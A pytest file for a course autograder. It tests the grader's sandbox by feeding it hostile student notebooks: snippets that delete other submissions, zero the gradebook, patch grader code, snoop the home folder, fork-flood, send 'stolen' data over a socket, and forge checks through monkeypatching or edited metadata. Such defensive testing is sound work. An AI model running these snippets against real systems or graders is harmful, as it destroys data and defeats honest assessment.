"""Hostile submissions, graded in one run between two honest students, with the sandbox on.

Each attacker hands in lesson 01 with the right solution and, at the top of its solution
cell, one attack (what a student on deadline night might try). For every attack: the honest
students' grades are what they would be without it, the submissions, the gradebook and the
repository are unchanged, nothing the attack started is still running, and what the attack
could see of the workspace is only its own folder.
"""

import hashlib
import os
import re
import socket
import subprocess
import threading
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder import lessons
from autograder.make_samples import filled
from autograder.pipeline import Pipeline
from autograder.sandbox import Limits, pids_cgroups

LESSON = "01_embedding"
HONEST = ("abe", "zoe")  # graded first and last
MARKER = "4242.4242"  # in the command line of every process an attack leaves behind
CHECKS_FILE = lessons.ROOT / "autograder" / "checks" / "attention.py"
SECRET = Path.home() / f".course-hostile-secret-{os.getpid()}"  # a key in the instructor's home

ATTACKS = {
    "deleter": """
import glob, os, shutil
for path in glob.glob("../../../submitted/*") + glob.glob("../../../autograded/*") + glob.glob("../../*"):
    if not path.endswith("deleter"):
        shutil.rmtree(path, ignore_errors=True)
""",
    "gradebook": """
import glob, sqlite3
for path in glob.glob("../../../*.db") + glob.glob("../../../../*.db"):
    db = sqlite3.connect(path)
    db.execute("UPDATE grade SET auto_score = 0")
    db.commit()
""",
    "patcher": f"""
with open({str(CHECKS_FILE)!r}, "a") as handle:
    handle.write("\\ndef check_attention_values(fn):\\n    pass\\n")
""",
    "spy": """
import glob, os
print("found:", sorted(glob.glob("../../*")), sorted(glob.glob("../../../*")))
print("home:", sorted(os.listdir(os.path.expanduser("~"))))
""",
    "hog": """
hoard = bytearray(6 * 2**30)
""",
    "lingerer": f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep({MARKER})"], start_new_session=True)
""",
    "caller": """
import socket
socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen")
""",
    "forker": """
import subprocess
sleepers = []
try:
    while len(sleepers) < 1000:
        sleepers.append(subprocess.Popen(["sleep", "4242.4242"]))
except OSError as error:
    print("refused after", len(sleepers), type(error).__name__)
print("started", len(sleepers))
for sleeper in sleepers:
    sleeper.kill()
    sleeper.wait()
""",
    "quitter": """
import os
os._exit(3)
""",
    "exiter": """
exit()
""",
    "sigint_looper": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    "shouter": """
print("x" * 20_000_000)
""",
    "tmp_writer": """
with open("/tmp/course-hostile-tmp-writer", "w") as handle:
    handle.write("left behind")
""",
}


WRONG = """
import math

from torch import nn


class Embedding(nn.Module):
    def __init__(self, vocab_size, d_model):
        super().__init__()
        self.lut = nn.Embedding(vocab_size, d_model)

    def forward(self, tokens):
        return self.lut(tokens)  # no sqrt(d_model): a wrong answer
"""

# Whole solution cells that take a shortcut; the grader flags them (autograder/flags.py), and
# where they fake a check, the judge fails them (autograder/judge.py).
SHORTCUTS = {
    "copier": "from solutions.embedding import Embedding",
    "forger": """import math

from torch import nn

import autograder.checks.embedding
import autograder.hidden.embedding

autograder.checks.embedding.check_embedding_values = lambda cls: None
autograder.hidden.embedding.hidden_embedding = lambda cls: None
"""
    + WRONG,
    "lazy_copier": """
import importlib

Embedding = importlib.import_module("solu" + "tions.embedding").Embedding
""",
    "allclose_forger": """
import torch

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
"""
    + WRONG,
    "module_swapper": """
import sys
import types

fake = types.ModuleType("fake")
fake.hidden_embedding = lambda cls: None
sys.modules["autograder.hidden.embedding"] = fake
checks = types.SimpleNamespace(check_embedding_shapes=print, check_embedding_values=print)
"""
    + WRONG,
    "silencer": """
get_ipython().showtraceback = lambda *args, **kwargs: None
"""
    + WRONG,
}


def _is_test(cell) -> bool:
    meta = cell.metadata.get("nbgrader", {})
    return bool(meta.get("grade")) and not meta.get("solution")


def _forged_points(nb):
    """Test cells worth 100 points that test nothing."""
    for cell in filter(_is_test, nb.cells):
        cell.metadata.nbgrader["points"] = 100
        cell.source = "pass"
    return nb


def _forged_outputs(nb):
    """The untouched stubs, with the outputs of passing checks pasted into the test cells."""
    for cell in filter(_is_test, nb.cells):
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✓ Embedding passed\n")]
        cell.execution_count = 1
    return nb


def _deleted_tests(nb):
    nb.cells = [cell for cell in nb.cells if not _is_test(cell)]
    return nb


def _renamed_kernel(nb):
    nb.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "Nope", "language": "python"}
    return nb


# Notebooks edited around the cells: metadata, outputs, deleted cells, the kernel's name.
EDITED = {
    "metadata_forger": lambda: _forged_points(_attacker(WRONG, replace=True)),
    "output_forger": lambda: _forged_outputs(nbformat.read(lessons.course_path(LESSON), as_version=4)),
    "test_deleter": lambda: _deleted_tests(filled(LESSON)),
    "kernel_renamer": lambda: _renamed_kernel(filled(LESSON)),
}


def _digest(paths) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(paths) if p.is_file()}


def _attacker(attack: str, replace: bool = False) -> nbformat.NotebookNode:
    nb = filled(LESSON)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = attack.strip() if replace else attack.strip() + "\n\n\n" + cell.source
    return nb


def _leftovers() -> list[str]:
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    return [line for line in ps.splitlines() if MARKER in line and "ps -eo" not in line]


def _intake_zip(folder: Path) -> Path:
    """An LMS download with a path in a name, a student id '..', a double hand-in and 200 MiB."""
    notebook = nbformat.writes(filled(LESSON))
    archive = folder / "download.zip"
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr(f"{LESSON}_.._attempt_2026-11-20-10-00-00_embedding.ipynb", notebook)
        bundle.writestr("../../twin_embedding.ipynb", notebook)  # only the name counts, not the path
        bundle.writestr("twin_embedding.ipynb", notebook)
        bundle.writestr("whale_embedding.ipynb", " " * (200 * 2**20))  # stored compressed
    return archive


@pytest.fixture(scope="module")
def graded(tmp_path_factory, request):
    tmp = tmp_path_factory.mktemp("hostile")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    received: list[bytes] = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            received.append(connection.recv(100))

    threading.Thread(target=listen, daemon=True).start()
    port = listener.getsockname()[1]

    inbox = tmp / "inbox"
    notebooks = {student: filled(LESSON) for student in HONEST}
    notebooks |= {name: _attacker(code.replace("PORT", str(port))) for name, code in ATTACKS.items()}
    notebooks |= {name: _attacker(code, replace=True) for name, code in SHORTCUTS.items()}
    notebooks |= {name: edit() for name, edit in EDITED.items()}
    for student, nb in notebooks.items():
        path = inbox / student / LESSON / lessons.notebook_name(LESSON)
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    repository = _digest(lessons.ROOT.glob("autograder/**/*.py"))
    SECRET.write_text("the instructor's token")
    request.addfinalizer(lambda: SECRET.unlink(missing_ok=True))
    pipeline = Pipeline(tmp / "workspace", release=tmp / "release", log=lambda *_: None, cell_timeout_s=15)
    pipeline.release([LESSON])
    pipeline.collect_folder(inbox)
    pipeline.collect_zip(_intake_zip(tmp), LESSON)
    submitted = _digest(pipeline.submitted.rglob("*"))
    pipeline.autograde()
    stop.set()
    return {
        "pipeline": pipeline,
        "repository": repository,
        "submitted": submitted,
        "received": received,
        "leftovers": _leftovers(),
        "tmp": tmp,
    }


def _outputs(pipeline: Pipeline, student: str) -> str:
    path = pipeline.workspace / "autograded" / student / LESSON / lessons.notebook_name(LESSON)
    nb = nbformat.read(path, as_version=4)
    texts = [
        output.get("text", "") + output.get("ename", "") + output.get("evalue", "")
        for cell in nb.cells
        for output in cell.get("outputs", [])
    ]
    return "\n".join(texts)  # what was printed and raised, not the figures


def test_honest_students_keep_every_point(graded):
    scores = graded["pipeline"].scores()
    assert [scores[(student, LESSON)] for student in HONEST] == [(3.0, 3.0), (3.0, 3.0)]


def test_the_submissions_and_the_repository_are_unchanged(graded):
    pipeline = graded["pipeline"]
    assert _digest(pipeline.submitted.rglob("*")) == graded["submitted"]
    assert _digest(lessons.ROOT.glob("autograder/**/*.py")) == graded["repository"]
    graded_folders = {p.name for p in (pipeline.workspace / "autograded").iterdir()}
    assert graded_folders == set(HONEST) | set(EARNED)
    # nothing was written beside the workspace (the zip's ../../ name included)
    assert sorted(p.name for p in graded["tmp"].iterdir()) == [
        "download.zip",
        "inbox",
        "release",
        "workspace",
    ]


# An attack that raised in its solution cell left the class undefined, so its tests fail: it
# scores 0. One that ran without an error (in its own folder, or on nothing it could reach)
# keeps the points of its correct solution, and no more. A wrong answer keeps the shapes
# point (its shapes are right) and no other, however it faked the values check.
EARNED = {
    "deleter": 3.0,
    "gradebook": 3.0,
    "patcher": 0.0,
    "spy": 3.0,
    "hog": 0.0,
    "lingerer": 3.0,
    "caller": 0.0,
    "tmp_writer": 3.0,
    "quitter": 0.0,
    "forker": 3.0,
    "exiter": 0.0,
    "sigint_looper": 0.0,
    "shouter": 3.0,
    "copier": 3.0,  # right, and flagged: the instructor decides
    "forger": 1.0,
    "lazy_copier": 3.0,  # right, and flagged
    "allclose_forger": 1.0,
    "module_swapper": 1.0,
    "silencer": 1.0,
    "metadata_forger": 1.0,
    "output_forger": 0.0,
    "test_deleter": 3.0,
    "kernel_renamer": 3.0,
    "twin": 3.0,
}

# What the instructor's report says about each student (every line, in part); nobody else is named.
TAMPERING = "tampering suspected, cell test_Embedding_values: passed in the notebook, not before the judge"
REPORTED = {
    "patcher": ["flagged, cell Embedding: names the course's code in a string"],
    "quitter": ["autograding failed: the kernel exited while running the solution cell of Embedding"],
    "exiter": ["autograding failed: the kernel exited after exit() in the solution cell of Embedding"],
    "sigint_looper": [
        "autograding failed: the solution cell of Embedding ran past the 15 s limit and did not stop when "
        "interrupted"
    ],
    "copier": [
        "flagged, cell Embedding: imports solutions.embedding (the course's reference or grading code)"
    ],
    "forger": [
        "flagged, cell Embedding: imports autograder.checks.embedding (the course's reference",
        "flagged, cell Embedding: imports autograder.hidden.embedding (the course's reference",
        "flagged, cell Embedding: changes autograder.checks.embedding.check_embedding_values, an attribute",
        "flagged, cell Embedding: changes autograder.hidden.embedding.hidden_embedding, an attribute",
        TAMPERING,
    ],
    "lazy_copier": ["flagged, cell Embedding: imports importlib (the kernel's machinery)"],
    "allclose_forger": [
        "flagged, cell Embedding: changes torch.allclose, an attribute of an imported module",
        "flagged, cell Embedding: changes torch.equal, an attribute of an imported module",
        TAMPERING,
    ],
    "module_swapper": [
        "flagged, cell Embedding: uses sys.modules (the kernel's machinery)",
        "flagged, cell Embedding: names the course's code in a string ('autograder.hidden.embedding')",
        TAMPERING,
    ],
    "silencer": ["flagged, cell Embedding: uses get_ipython (the kernel's machinery)"],
    "test_deleter": ["deleted test cells restored and graded: test_Embedding_shapes, test_Embedding_values"],
    "twin": [
        "embedding.ipynb handed in twice (../../twin_embedding.ipynb, twin_embedding.ipynb): kept the last"
    ],
    "?": [f"{LESSON}_.._attempt_2026-11-20-10-00-00_embedding.ipynb: '..' is not a student id"],
    "whale": ["whale_embedding.ipynb is 200 MiB, over the 50 MiB limit; not graded"],
}


def test_the_catalogue_has_25_cases_or_more():
    assert len(ATTACKS) + len(SHORTCUTS) + len(EDITED) + 4 >= 25  # 4: the intake zip's cases


def test_each_attacker_gets_the_points_it_earned_and_no_more(graded):
    scores = graded["pipeline"].scores()
    assert {student: scores[(student, LESSON)] for student in EARNED} == {
        student: (points, 3.0) for student, points in EARNED.items()
    }


def test_each_case_is_reported_to_the_instructor_as_expected(graded):
    reported: dict[str, list[str]] = {}
    for problem in graded["pipeline"].problems:
        reported.setdefault(problem.student, []).append(problem.what)
    assert sorted(reported) == sorted(REPORTED)
    for student, expected in REPORTED.items():
        lines = reported[student]
        assert len(lines) == len(expected), (student, lines)
        for start, line in zip(expected, lines, strict=True):
            assert line.startswith(start), (student, line)


def test_a_spy_sees_only_its_own_folder_and_nothing_of_the_home_folder(graded):
    seen = _outputs(graded["pipeline"], "spy")
    assert "found: ['../../spy'] ['../../../autograded']" in seen, seen[:2000]
    for student in (*HONEST, "deleter"):
        assert student not in seen.replace("../../spy", "")
    assert "home: [" in seen and SECRET.name not in seen, seen[:2000]


def test_no_network(graded):
    assert graded["received"] == []
    assert "ConnectionRefusedError" in _outputs(graded["pipeline"], "caller")


def test_memory_is_capped(graded):
    assert "MemoryError" in _outputs(graded["pipeline"], "hog")


def test_no_process_outlives_its_notebook(graded):
    assert graded["leftovers"] == []


def test_tmp_is_private(graded):
    assert not Path("/tmp/course-hostile-tmp-writer").exists()
    assert "Read-only file system" in _outputs(graded["pipeline"], "patcher")


def test_a_kernel_that_exits_is_reported_with_its_cell(graded):
    problems = [p.what for p in graded["pipeline"].problems if p.student == "quitter"]
    assert problems == ["autograding failed: the kernel exited while running the solution cell of Embedding"]


def test_processes_are_capped_where_cgroups_can_be_made(graded):
    printed = _outputs(graded["pipeline"], "forker")
    if pids_cgroups() is None:  # no cgroup to make here: the sandbox cannot cap, and says so in the README
        assert "started 1000" in printed
        return
    refused = re.search(r"refused after (\d+) BlockingIOError", printed)
    assert refused and int(refused[1]) < Limits.tasks, printed[:2000]


def test_the_judge_overrules_a_forged_check(graded):
    """The forger replaced the values checks inside its kernel; the judge, which runs them where
    the kernel cannot reach, fails its wrong answer: the shapes point only, and a report."""
    pipeline = graded["pipeline"]
    assert pipeline.scores()[("forger", LESSON)] == (1.0, 3.0)
    what = next(p.what for p in pipeline.problems if p.student == "forger" and p.what.startswith(TAMPERING))
    assert "sqrt(d_model)" in what, what  # the judge's own message names the mistake
    assert "JudgeFailure" in _outputs(pipeline, "forger")  # and the feedback says why the points went
